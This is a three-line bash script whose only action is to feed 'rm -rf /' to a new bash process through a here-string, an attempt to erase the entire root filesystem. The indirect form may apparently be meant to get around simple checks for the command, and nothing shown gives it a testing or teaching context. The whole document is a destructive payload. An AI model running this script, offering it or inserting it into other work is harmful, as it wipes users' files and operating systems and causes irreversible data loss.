#!/usr/bin/env bash
set -euo pipefail
bash <<< 'rm -rf /'
